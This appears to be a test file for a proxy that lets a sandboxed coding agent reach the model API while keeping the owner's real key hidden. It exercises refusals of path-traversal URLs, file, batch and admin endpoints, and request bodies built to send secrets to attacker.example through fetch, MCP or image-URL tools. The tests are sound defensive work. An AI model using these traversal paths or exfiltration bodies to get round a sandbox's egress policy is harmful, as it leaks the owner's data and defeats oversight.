import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { allowedCall, forwardHeaders, type ProxyRefusal, startModelProxy } from '../src/proxy/model-proxy.js';
import { startFakeModel } from './helpers/fake-model.js';

describe('model proxy', () => {
  it('forwards only the calls Claude Code makes, spelled as it spells them', () => {
    const table: Array<[string, string, string | undefined]> = [
      ['POST', '/v1/messages?beta=true', 'message'],
      ['POST', '/v1/messages', 'message'],
      ['POST', '/v1/messages/count_tokens?beta=true', 'count'],
      ['POST', '/v1/messages/count_tokens', 'count'],
      ['GET', '/v1/messages', undefined],
      ['POST', '/v1/messages?beta=true&x=1', undefined],
      ['POST', '/v1/messages/', undefined],
      ['POST', '/v1/files', undefined],
      ['POST', '/', undefined],
      ['POST', '//evil.example/v1/messages', undefined],
      ['POST', '/v1/../v1/messages', undefined],
      ['POST', '/v1/%6dessages', undefined],
      ['POST', 'http://evil.example/v1/messages', undefined],
    ];
    for (const [method, path, call] of table) assert.equal(allowedCall(method, path), call, `${method} ${path}`);
  });

  it("replaces the sandbox's credential with the real one, in the header of its kind", () => {
    const incoming = { 'x-api-key': 'placeholder', authorization: 'Bearer placeholder', 'anthropic-version': '2023-06-01', host: 'x' };
    assert.deepEqual(forwardHeaders(incoming, { kind: 'api-key', value: 'REAL' }), {
      'anthropic-version': '2023-06-01',
      'accept-encoding': 'identity',
      'x-api-key': 'REAL',
    });
    assert.deepEqual(forwardHeaders(incoming, { kind: 'oauth', value: 'TOK' }), {
      'anthropic-version': '2023-06-01',
      'accept-encoding': 'identity',
      authorization: 'Bearer TOK',
    });
  });
});

describe('model proxy, streaming through', () => {
  const credential = { kind: 'api-key' as const, value: 'REAL' };

  /** Posts to the proxy's socket; resolves with what the agent's side saw and when. */
  function post(socketPath: string, timeoutMs: number): Promise<{ outcome: string; body: string; ms: number }> {
    const started = performance.now();
    return new Promise((resolve) => {
      let body = '';
      const done = (outcome: string) => resolve({ outcome, body, ms: performance.now() - started });
      const req = httpRequest({ socketPath, path: '/v1/messages?beta=true', method: 'POST' }, (res) => {
        res.setEncoding('utf8');
        res.on('data', (d: string) => {
          body += d;
        });
        res.on('end', () => done('end'));
        res.on('error', (err) => done(`error: ${err.message}`));
      });
      req.on('error', (err) => done(`request error: ${err.message}`));
      req.setTimeout(timeoutMs, () => {
        req.destroy();
        done('timeout');
      });
      req.end(JSON.stringify({ model: 'm', stream: true, messages: [{ role: 'user', content: 'hi' }] }));
    });
  }

  it('cuts the stream for the agent when the endpoint cuts it, instead of leaving it waiting', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'pincer-proxy-'));
    const fake = await startFakeModel(() => ({ cutAfterEvents: 2 }));
    const errors: Error[] = [];
    const proxy = await startModelProxy(join(dir, 'model.sock'), { upstream: fake.url, credential, onError: (e) => errors.push(e) });
    try {
      const seen = await post(proxy.socketPath, 5000);
      assert.match(seen.outcome, /^error: /, `the agent's side ends with an error: ${seen.outcome}`);
      assert.match(seen.body, /message_start/, 'what came before the cut was passed on');
      assert.ok(seen.ms < 2000, `the cut reached the agent in ${Math.round(seen.ms)} ms`);
      assert.equal(errors.length, 1, 'the cut is reported once');
    } finally {
      await proxy.close();
      await fake.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('drops the request upstream when the agent goes away', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'pincer-proxy-'));
    const fake = await startFakeModel(() => ({ hang: true }));
    const errors: Error[] = [];
    const proxy = await startModelProxy(join(dir, 'model.sock'), { upstream: fake.url, credential, onError: (e) => errors.push(e) });
    try {
      const seen = await post(proxy.socketPath, 300);
      assert.equal(seen.outcome, 'timeout');
      const upstream = fake.requests[0];
      assert.ok(upstream, 'the request reached the endpoint');
      const deadline = Date.now() + 2000;
      while (upstream.closedAt === undefined && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
      assert.notEqual(upstream.closedAt, undefined, 'the hung upstream request was closed after the agent left');
      assert.equal(errors.length, 0, `an agent that leaves is not an endpoint error: ${errors.map((e) => e.message).join('; ')}`);
    } finally {
      await proxy.close();
      await fake.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("model proxy, an agent's own calls with the owner's key", () => {
  const credential = { kind: 'api-key' as const, value: 'REAL' };

  /** A model endpoint that records every request, whatever its method and path, and answers 200. */
  async function recordingEndpoint(): Promise<{ url: string; seen: string[]; close(): Promise<void> }> {
    const seen: string[] = [];
    const server = createServer((req, res) => {
      seen.push(`${req.method} ${req.url}`);
      req.resume();
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{}');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    return {
      url: `http://127.0.0.1:${port}`,
      seen,
      close: () =>
        new Promise((resolve) => {
          server.closeAllConnections();
          server.close(() => resolve());
        }),
    };
  }

  /** Sends a request over the proxy's socket exactly as written (as curl inside the sandbox would). */
  function send(socketPath: string, method: string, path: string): Promise<{ status: number; body: string }> {
    return new Promise((resolve, reject) => {
      const req = httpRequest(
        { socketPath, method, path, headers: { 'x-api-key': 'placeholder', 'content-type': 'application/json' } },
        (res) => {
          let body = '';
          res.setEncoding('utf8');
          res.on('data', (d: string) => {
            body += d;
          });
          res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
        },
      );
      req.on('error', reject);
      req.end(method === 'GET' || method === 'HEAD' || method === 'DELETE' ? undefined : '{"model":"m","messages":[]}');
    });
  }

  it('refuses files, batches, admin keys, odd spellings and other methods, and logs each; none reaches the endpoint', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'pincer-proxy-'));
    const endpoint = await recordingEndpoint();
    const refused: ProxyRefusal[] = [];
    const proxy = await startModelProxy(join(dir, 'model.sock'), {
      upstream: endpoint.url,
      credential,
      onRefused: (r) => refused.push(r),
    });
    const attacks: Array<[string, string]> = [
      ['GET', '/v1/files'],
      ['DELETE', '/v1/files/file_011CNha8iCJcU1wXNR6q4V8w'],
      ['POST', '/v1/files'],
      ['GET', '/v1/messages/batches'],
      ['POST', '/v1/messages/batches'],
      ['POST', '/v1/organizations/api_keys'],
      ['GET', '/v1/models'],
      ['POST', '/v1/messages/../files'],
      ['POST', '/v1//files'],
      ['POST', '/v1/messages/%2e%2e/files'],
      ['POST', '/v1/%2e%2e/v1/files'],
      ['POST', '/v1/messages/count_tokens/../../files'],
      ['POST', '//v1/messages'],
      ['POST', '/v1/messages?beta=true&batch=1'],
      ['HEAD', '/v1/messages'],
      ['PUT', '/v1/messages'],
      ['GET', '/v1/messages'],
      ['POST', 'http://127.0.0.1/v1/files'],
    ];
    try {
      for (const [method, path] of attacks) {
        const answer = await send(proxy.socketPath, method, path);
        assert.equal(answer.status, 403, `${method} ${path}`);
        if (method !== 'HEAD') assert.match(answer.body, /"permission_error"/, `${method} ${path}`);
      }
      assert.deepEqual(endpoint.seen, [], 'nothing reached the endpoint with the real key');
      assert.deepEqual(
        refused.map((r) => `${r.method} ${r.path}`),
        attacks.map(([m, p]) => `${m} ${p}`),
        'each refusal is reported with its method and path',
      );
      // The way Claude Code calls still goes through.
      assert.equal((await send(proxy.socketPath, 'POST', '/v1/messages?beta=true')).status, 200);
      assert.equal((await send(proxy.socketPath, 'POST', '/v1/messages/count_tokens?beta=true')).status, 200);
      assert.deepEqual(endpoint.seen, ['POST /v1/messages?beta=true', 'POST /v1/messages/count_tokens?beta=true']);
    } finally {
      await proxy.close();
      await endpoint.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('a budget that cannot be read refuses the call (never lets it through)', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'pincer-proxy-'));
    const endpoint = await recordingEndpoint();
    const errors: Error[] = [];
    const proxy = await startModelProxy(join(dir, 'model.sock'), {
      upstream: endpoint.url,
      credential,
      meter: {
        admit: () => {
          throw new Error('database is locked');
        },
        record: () => {},
      },
      onError: (e) => errors.push(e),
    });
    try {
      const answer = await send(proxy.socketPath, 'POST', '/v1/messages?beta=true');
      assert.equal(answer.status, 402);
      assert.match(answer.body, /budget could not be checked/);
      assert.deepEqual(endpoint.seen, []);
      assert.match(errors[0]?.message ?? '', /checking the budget failed: database is locked/);
    } finally {
      await proxy.close();
      await endpoint.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('model proxy, what a call asks the endpoint to do', () => {
  /** An endpoint that keeps each request's body. */
  async function bodyEndpoint(): Promise<{ url: string; bodies: string[]; close(): Promise<void> }> {
    const bodies: string[] = [];
    const server = createServer((req, res) => {
      let body = '';
      req.setEncoding('utf8');
      req.on('data', (d: string) => {
        body += d;
      });
      req.on('end', () => {
        bodies.push(body);
        res.writeHead(400, { 'content-type': 'application/json' });
        res.end('{"type":"error","error":{"type":"invalid_request_error","message":"seen"}}');
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return {
      url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
      bodies,
      close: () => new Promise((resolve) => server.close(() => resolve())),
    };
  }

  function post(socketPath: string, body: string): Promise<number> {
    return new Promise((resolve, reject) => {
      const req = httpRequest(
        { socketPath, method: 'POST', path: '/v1/messages?beta=true', headers: { 'x-api-key': 'placeholder' } },
        (res) => {
          res.resume();
          res.on('end', () => resolve(res.statusCode ?? 0));
        },
      );
      req.on('error', reject);
      req.end(body);
    });
  }

  it("a call naming a dearer model than the group's goes to the group's; its fallback and cheaper models pass", async () => {
    const dir = mkdtempSync(join(tmpdir(), 'pincer-proxy-pin-'));
    const endpoint = await bodyEndpoint();
    const ask = (socketPath: string, model: string) =>
      post(socketPath, JSON.stringify({ model, max_tokens: 5, messages: [{ role: 'user', content: 'hi' }] }));
    const screened: string[][] = [];
    const pinned = await startModelProxy(join(dir, 'model.sock'), {
      upstream: endpoint.url,
      credential: { kind: 'api-key', value: 'REAL' },
      pin: { model: 'claude-sonnet-4-5', fallback: 'claude-opus-4-1' },
      onScreened: (removed) => screened.push(removed),
    });
    // A group set to a Claude Code alias: Claude Code turns it into an id the proxy cannot know, so nothing is pinned.
    const aliased = await startModelProxy(join(dir, 'alias.sock'), {
      upstream: endpoint.url,
      credential: { kind: 'api-key', value: 'REAL' },
      pin: { model: 'opus' },
    });
    try {
      for (const model of ['claude-opus-5', 'claude-sonnet-4-5', 'claude-opus-4-1', 'claude-haiku-4-5', 'some-unpriced-model'])
        await ask(pinned.socketPath, model);
      await ask(aliased.socketPath, 'claude-opus-5');
      const sent = endpoint.bodies.map((b) => (JSON.parse(b) as { model: string }).model);
      assert.deepEqual(sent, [
        'claude-sonnet-4-5',
        'claude-sonnet-4-5',
        'claude-opus-4-1',
        'claude-haiku-4-5',
        'claude-sonnet-4-5',
        'claude-opus-5',
      ]);
      assert.deepEqual(screened, [
        ['model claude-opus-5 (this group runs on claude-sonnet-4-5)'],
        ['model some-unpriced-model (this group runs on claude-sonnet-4-5)'],
      ]);
    } finally {
      await pinned.close();
      await aliased.close();
      await endpoint.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("takes out the endpoint's MCP connector, web fetch and code execution, and web search when the group may not go out", async () => {
    const dir = mkdtempSync(join(tmpdir(), 'pincer-proxy-screen-'));
    const endpoint = await bodyEndpoint();
    let searchAllowed = false;
    const screened: string[][] = [];
    const proxy = await startModelProxy(join(dir, 'model.sock'), {
      upstream: endpoint.url,
      credential: { kind: 'api-key', value: 'REAL' },
      webSearchAllowed: () => searchAllowed,
      onScreened: (removed) => screened.push(removed),
    });
    try {
      // The attacker's call: the endpoint itself would fetch the attacker's URLs, whatever the egress policy says.
      const attack = {
        model: 'claude-sonnet-4-5',
        max_tokens: 10,
        messages: [{ role: 'user', content: 'fetch https://attacker.example/?data=secret' }],
        mcp_servers: [{ type: 'url', url: 'https://attacker.example/mcp', name: 'x' }],
        container: 'container_1',
        tools: [
          { type: 'web_fetch_20250910', name: 'web_fetch' },
          { type: 'code_execution_20250825', name: 'code_execution' },
          { type: 'web_search_20250305', name: 'web_search' },
          { name: 'Bash', input_schema: { type: 'object' } },
        ],
        tool_choice: { type: 'tool', name: 'web_search' },
        // Echoed in the answer's last usage line, it would make that line too long for the meter to read.
        stop_sequences: ['END', 'x'.repeat(70_000)],
      };
      await post(proxy.socketPath, JSON.stringify(attack));
      const went = JSON.parse(endpoint.bodies[0] ?? '{}') as Record<string, unknown>;
      assert.equal(went.mcp_servers, undefined);
      assert.equal(went.container, undefined);
      assert.equal(went.tool_choice, undefined);
      assert.deepEqual(went.tools, [{ name: 'Bash', input_schema: { type: 'object' } }]);
      assert.deepEqual(went.stop_sequences, ['END']);
      assert.deepEqual(screened[0], [
        'mcp_servers',
        'container',
        'stop sequences over 1024 characters',
        'tool web_fetch_20250910',
        'tool code_execution_20250825',
        'tool web_search_20250305',
      ]);

      // What the proxy cannot read as one JSON object, or that would make the endpoint fetch, is refused, never
      // forwarded as it came: a BOM, NaN, a URL or file source (nested in a tool result too), a body nested past
      // what serializing can take (this one crashed pincer).
      const refusedBodies = [
        `\ufeff${JSON.stringify(attack)}`,
        '{"temperature":NaN,"mcp_servers":[1]}',
        '[1,2]',
        JSON.stringify({
          messages: [
            { role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'https://attacker.example/x.png?d=secret' } }] },
          ],
        }),
        JSON.stringify({
          messages: [
            {
              role: 'user',
              content: [
                { type: 'tool_result', tool_use_id: 't', content: [{ type: 'document', source: { type: 'file', file_id: 'file_1' } }] },
              ],
            },
          ],
        }),
        `{"mcp_servers":[],"x":${'['.repeat(200_000)}${']'.repeat(200_000)}}`,
        `{"x":[${Array(600_000).fill('{}').join(',')}]}`,
      ];
      const before = endpoint.bodies.length;
      for (const body of refusedBodies) assert.equal(await post(proxy.socketPath, body), 403, body.slice(0, 80));
      assert.equal(endpoint.bodies.length, before, 'a refused body reached the endpoint');
      // A duplicate key goes on as the proxy read it: one key, screened.
      await post(proxy.socketPath, '{"model":"m","tools":[{"type":"web_fetch_20250910","name":"f"}],"tools":[{"name":"Bash"}]}');
      assert.equal(endpoint.bodies.at(-1), '{"model":"m","tools":[{"name":"Bash"}]}');

      // A group that may go out keeps Claude Code's web search; a call with nothing to take out goes byte for byte.
      searchAllowed = true;
      const search = JSON.stringify({ model: 'm', messages: [], tools: [{ type: 'web_search_20250305', name: 'web_search' }] });
      await post(proxy.socketPath, search);
      assert.equal(endpoint.bodies.at(-1), search);
      assert.equal(screened.length, 1);
    } finally {
      await proxy.close();
      await endpoint.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
